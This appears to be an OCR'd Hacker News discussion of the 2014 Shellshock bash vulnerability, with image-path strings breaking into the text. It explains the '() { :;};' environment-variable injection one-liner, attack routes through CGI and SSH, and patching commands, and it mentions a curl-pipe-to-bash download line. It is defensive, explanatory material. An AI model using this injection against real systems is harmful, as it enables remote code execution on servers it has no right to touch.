Hacker News new | past | comments | ask | show | jobs | submit login
CVE-2014-6271: Remote code execution through bash (seclists.org)
905 points by vault_ on Sept 24, 2014 | hide | past | favorite | 416 comments

There's some misunderstanding of how the one-liner works, so here's a writeup.

You can break the one-liner into two lines to see what is happening.

    1. hobbes@media:~$ export badvar='() { :;}; echo vulnerable'
    2. hobbes@media:~$ bash -c "echo I am an innocent sub process in '$BASH_VERSION'"
    3. bash: warning: badvar: ignoring function definition attempt
    4. bash: error importing function definition for `badvar'
    5. I am an innocent sub process in 4.3.25(1)-release
1. Create a specially crafted environment variable. Ok, it's done. But, nothing has happened!

2. Create an innocent sub process. Bash in this case. During initialization...

3. ...bash spots the specially formed variable (named badvar), prints a warning,

4. ...and apparently doesn't define the function at all?

5. But other than that, the child bash runs as expected.

And now the same two input lines on and OLD bash:

    1. hobbes@metal:~$ export badvar='() { :;}; echo vulnerable'
    2. hobbes@metal:~$ bash -c "echo I am an innocent sub process in '$BASH_VERSION'"
    3. vulnerable
    4. I am an innocent sub process in 4.3.22(1)-release
1. Create a speciallycrafted environment variable. Ok, it's done. But, nothing has happened!

2. Create an innocent sub process. Bash in this case. During initialization...

3. ...bash accidentally EXECUTES a snippet that was inside the variable named 'badvar'?!

4. But other than that, the child bash runs as expected. Wow, I should update that machine. :)

I finally understand how it can be used.

I'm sorry; perhaps I'm slow. I see the problem, but how can a stranger set an environment variable?

Lots of internet facing software fills env vars with user data: Apache may set several SSL_* vars and HTTP_* vars, ssh may set LC_*, LANG, TERM, etc; procmail and other smtp filters probably have their fair share too.

The moment any child process of these hit a system() or popen() like call, /bin/sh initializes and may hit the bug.

So it's a sort of injection attack that targets inputs to bash that manage to bypass normal sanitisation?

Apache takes SSL_* headers, say, from a client and simply passes those to BASH and this exploit means that BASH will execute a payload dropped in to the header?Am I close? Wouldn't that also be an Apache [httpd] bug in that it's allowing unsanitised user data to hit the shell?

Similarly are you saying that if I set a LANG variable and SSH to a server that the server will use that variable to give to BASH, even if it's not a recognised LANG variable?

Perhaps I'm misunderstanding as such things would be massive holes any way regardless of this BASH issue.

From the example code at the top of the thread it seems that you only need to affect a single variable, that bash reads, in order to pwn the whole server.

Interestingly on Ubuntu the BASH update for this is rated "medium".

It's kind of the equivalent of a web app thatbasically evals any given GET parameter with a specially crafted value.

Apache sets environment variables, it does not pass user input directly to bash as code or anything like that. The fact that bash can be tricked to execute this code is a problem that needs to be addressed by bash, not any other software.

>"Apache sets environment variables, it does not pass user input directly to bash as code or anything like that." //

This is contrary to how I'm understanding the situation. BASH, or whichever shell is being used, sets environment variables; Apache httpd et al. pass off some user data (from clients, eg browser headers) to the shell to set variables under limited circumstances [like use of CGI], no? Then when BASH gets initialised something is happening in the parsing of variables causing statements included with the variable (which variable can be a function definition) to be executed.

I realise now that as things stand you can't sanitise many of the fields [like httpclient headers] as they don't have well defined forms. But setting variables for use by BASH seems as close to "pass user input directly to bash" as you're going to get.

Mainly I'm doubting that all these different apps duplicate code to set env variables when the shell already knows how to do it, doesn't seem very *nixy. Happy to be corrected as I'm - as I'm sure you've guessed - a bit out of my depth.

Sorry for the late reply - you can think of environment variables as basically HTTP headers for bash scripts. They are one way to pass user input to a bash script. While you want bash to make those environment variables available to the bash script, you don't really want any code in their value to be executed (unless, of course, your script does that on purpose).

httpd with CGI does not alter your bash script by prepending a set of variable assignments (which, of course, would be a very bad idea) - it simply sets values that are then passed to bash. The bash parser then can be tricked into executing code in those environment variables.

In a webserver,like Apache, environment variables are set from headers sent by the client, e.g. each header like Cookie would produce variable like HTTP_COOKIE. These variables can contain any data that the user sent. If Apache uses external code (like PHP, Ruby, Python, etc.) to process the request, it may pass these variables to that code, and if that code runs some command on the system, these variables may be passed to the command shell, which would lead to code contained in the variable to be executed at that point.

This can also happen with other service processes - such as OpenSSH, that sets ORIG_SSH_COMMAND variable to the command that the user supplies. That may allow people to break out of restricted accounts -i.e. accounts that are supposed to run just one command (ssh-based services, like SVN or Git, may be an example) and run arbitrary commands under such user.

>OpenSSH, that sets ORIG_SSH_COMMAND variable to the command that the user supplies //

So they set shell vars without sanitising them first?

As an analogy, suppose I go to a website written in PHP and register with the username "Robert'); DROP TABLE Students;--". A correct PHP script will sanitize the name; it'll escape the quote and run something like `update users set name='Robert\'); DROP TABLE Students;--'`. If mysql then ignores the backslash and drops the Students table, that is definitely a mysql problem and not a PHP problem. Doing any more on the PHP side to "sanitize" the name would actually break the script by screwing up valid names.

In this case, the shell variables are correctly sanitized by Apache or whatever, and then mishandled by bash. Forexample, imagine this very simple system:

- Web server receives a GET request with the user's name. - Web server sets the environment variable USERS_NAME='<whatever was submitted with quotes escaped>'. - Web server sends back the result of running `bash print_welcome_message.sh`.

It might not be considered great design, but there's nothing inherently insecure in this system, and there are plenty of actual systems that more or less work this way. And it's also perfectly valid for a user to have the name `() { :;}; echo vulnerable`. It ought to work fine to set USERS_NAME to that value and send back `Welcome, () { :;}; echo vulnerable.`

Instead, an unpatched bash will execute the contents of USERS_NAME. The only way for the web server to prevent that would be to change the user's name, which would be wrong behavior -- given a properly working shell, it would print the wrong name in the response. The web server does its sanitization job correctly when it successfully sets USERS_NAME in spite of any single quotes or what-have-you -- this part isn't its problem.

Ahh, Little Bobby Tables.



CGI scripts is the most obvious way - when executing a CGI script, each HTTP header gets translated into an environment variable - but I have no doubt there's all sorts of odd network-facing apps whichset environment various and then run a command, even if you're not running CGI scripts.

Surely though the CGI framework sanitises theheaders first? Otherwise this seems like it's a pretty predictable problem - isn't "always sanitise user data" the cardinal rule of backends.

I can certainly imagine that I might have designed a web page that passed user input direct to a BASH script to do a ping or some such, but not if it's public facing.

What sanitization do you expect the CGI framework to apply to the header value representing the user agent? str_replace($userAgent, '() {', 'no bash bug for you')?

Only a few environment variables are given any meaning by the system. Other environment variables don't have any predefined meaning and can be any null-terminated string.

Indeed, lol. It's a bit clearer to me now. Thanks for your comment.

It seems like a sort of loose typing issue. Perhaps if when setting environment variables the app using them could specify a type (eg nonExecutableText) such that bash knows it's receiving textual content that mustn't be executed; would that help?

One of the comments in this thread (http://seclists.org/oss-sec/2014/q3/650 ), seems to indicate that Apache is an attack vector for this vulnerability.

Here is a simple c program to demonstrate this.


#include <stdlib.h>

int main()


   setenv("VAR", "() { :;}; echo vulnerable", 0);That's awesome.

Does system() invoke /bin/sh? Does it look for 'sh' on the path? What are the rules?

There are a lot of scripts the do something like: curl 'http://myradframework.com/script.sh' | bash

That'd be pretty easy to do this if they weren't honest or man in the middle attack the site.

That's not really the risk with this vulnerability. Piping a web-sourced script to bash has always been a vulnerability, but it's one that you choose to live with when you do it.

The reason this is newsworthy is because there are some network-facing programs (CGI-based web servers, some SSH configurations) that will set the value of some environment variables to a user-supplied value, which bash will then be executed by bash when that program spawns a new process.

That will run arbitrary code regardless

If you are responsible for the security of any system, this is your immediate, drop-everything priority. The technical details of the exploit mean that new ways of exploiting it will be discovered soon. Precedent suggests that automated systematic attacks against every server on the Internet will becoming, on a time scale of hours.

So, as a amateur sysadmin of a decently popular side project, what should I do? I've read over the post on the mailing list, and I think I understand the basic attack, but I'm having trouble understanding exactly how an attacker could run bash on my server and what I therefore need to patch (though I suspect that's intentional). Is `sudo apt-get update && sudo apt-get upgrade` sufficient on an Ubuntu server?

If you just want to upgrade bash, and prevent services like nginx, fpm, and apache from being restarted in production, you can run `sudo apt-get update && sudo apt-get install --only-upgrade bash`Related to that, does anyone else know if upgrading bash will require a restart of other services kind of like upgrading openssl requires restarting things?

It runs out that these suggestions were premature, the patch released earlier today DOES NOT fix the problem. https://bugzilla.redhat.com/show_bug.cgi?id=1141597#c24

I just tested this on Ubuntu 14.04 - it's vulnerable.

Upgrades should not require any restarts, and no restarts are required for you to stop being vulnerable - as this only affects newly created bash sessions, not already running ones.

Debian's package manager has the nasty habit of stopping affected daemons before all the upgrades and starting them afterwards, leaving you with serious downtime.

> Related to that, does anyone else know if upgrading bash will require a restart of other services kind of like upgrading openssl requires restarting things?

I don't think it will, for a couple of reasons.OpenSSL is integrated into other services as a library, while bash would be called as an external application. I also noticed that once I upgraded bash, the proof of concept stopped working in a terminal I opened prior to the upgrade.

> I also noticed that once I upgraded bash, the proof of concept stopped working in a terminal I opened prior to the upgrade.

[citation needed] because that doesn't sound possible.

Not if the issued commands spawned a new copy of Bash.

> Is `sudo apt-get update && sudo apt-get upgrade` sufficient on an Ubuntu server?

Yes. Patch is out.

It appears that Linode changes /etc/apt/sources.list to point to their own mirror of Ubuntu repositories, and as far as I can tell those are not updated yet. So I guess the solution is to wait or edit sources.list. Just FYI if you're on their systems!

Just did an update on my Linode and one of the updates was

    replace bash 4.1-2ubuntu3
So seems like it's there now.

https://launchpad.net/ubuntu/+source/bash/4.3-7ubuntu1.1 seems to be at least one version of the fix, I'm unsure about LTS and other releases.


Ubuntu 14.04 LTS: bash 4.3-7ubuntu1.1

Ubuntu 12.04 LTS: bash 4.2-2ubuntu2.2

Ubuntu 10.04 LTS: bash 4.1-2ubuntu3.1

For releases in-between, you should be able to manually download one of those versions from http://archive.ubuntu.com/ubuntu/pool/main/b/bash/ and install it. I wonder how many vulnerable boxes there are that won't get these updates because Ubuntu stops support after 9 months. There must be tons of boxes running 13.10, it's not even a year old yet.

It's for that reason that I just ignore anything that's not an LTS release. It's never worth the hassle for me.

For 13.10 do this, selecting correct architecture:wget archive.ubuntu.com/ubuntu/pool/main/b/bash/bash_4.2-2ubuntu2.3_amd64.deb

sudo dpkg -i bash_4.2-2ubuntu2.3_amd64.deb



wget archive.ubuntu.com/ubuntu/pool/main/b/bash/bash_4.2-2ubuntu2.3_i386.deb

sudo dpkg -i bash_4.2-2ubuntu2.3_i386.deb

